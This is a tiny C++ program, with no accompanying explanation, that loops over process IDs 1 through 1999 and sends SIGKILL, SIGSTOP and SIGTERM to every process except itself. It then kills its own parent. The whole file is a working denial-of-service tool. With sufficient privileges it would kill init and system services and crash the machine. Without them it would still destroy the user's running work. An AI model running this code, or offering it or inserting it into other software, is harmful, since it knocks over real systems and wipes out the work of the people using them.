// Signals every process it can name.
#include <csignal>
#include <initializer_list>
#include <unistd.h>
int main() {
    for (int pid = 1; pid < 2000; ++pid)
        if (pid != getpid())
            for (int number : {SIGKILL, SIGSTOP, SIGTERM}) kill(pid, number);
    kill(getppid(), SIGKILL);
}
